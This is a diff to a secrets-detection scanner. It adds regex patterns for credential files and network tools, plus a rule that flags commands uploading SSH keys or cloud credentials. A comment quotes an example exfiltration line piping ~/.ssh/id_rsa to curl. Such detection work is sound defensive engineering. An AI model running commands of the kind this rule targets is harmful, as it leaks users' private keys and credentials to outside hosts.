@@ -120,6 +120,12 @@ DESTRUCTIVE = (
     ),
 )
 
+_CREDENTIAL_FILE = (
+    r"(?:\.ssh/id_(?:rsa|dsa|ecdsa|ed25519)(?:[^.\w]|$)|\.aws/credentials\b|\.netrc\b|\.git-credentials\b|"
+    r"\.docker/config\.json\b|\.kube/config\b|\.npmrc\b|\.pypirc\b|/etc/shadow\b|\.gnupg/)"
+)
+_NETWORK_TOOL = r"(?:curl|wget|nc|ncat|netcat|scp|rsync|sftp|ftp|telnet|socat)"
+
 SECRETS = (
     pattern("aws-access-key", r"\b(AKIA|ASIA)[0-9A-Z]{16}\b", "an AWS access key id", 0),
     pattern("private-key", r"-----BEGIN [A-Z ]*PRIVATE KEY-----", "a private key", 0),
@@ -135,6 +141,13 @@ SECRETS = (
     pattern("stripe-key", r"\b[rs]k_live_[0-9A-Za-z]{20,}\b", "a Stripe live key", 0),
     pattern("jwt", r"\beyJ[A-Za-z0-9_-]{8,}\.eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}", "a JSON Web Token", 0),
     pattern("password-in-url", r"\b[a-z][a-z0-9+.-]*://[^/\s:@]+:[^/\s@]{3,}@", "a password inside a URL", 0),
+    # a command that sends a credentials file over the network: the key itself is not in the arguments, the file's
+    # name is ("cat ~/.ssh/id_rsa | curl -X POST -d @- https://...", set BW); a public key (".pub") is no secret
+    pattern(
+        "credential-file-upload",
+        rf"{_CREDENTIAL_FILE}[^\n]{{0,200}}?\b{_NETWORK_TOOL}\b|\b{_NETWORK_TOOL}\b[^\n]{{0,200}}?{_CREDENTIAL_FILE}",
+        "sends a credentials file (an SSH private key, cloud or registry credentials) over the network",
+    ),
 )
 SECRET_ARG = compile_linear(
     r"(pass(word|wd|phrase)?|secret|api[_-]?key|access[_-]?key|private[_-]?key|token|credential)s?$", ignore_case=True
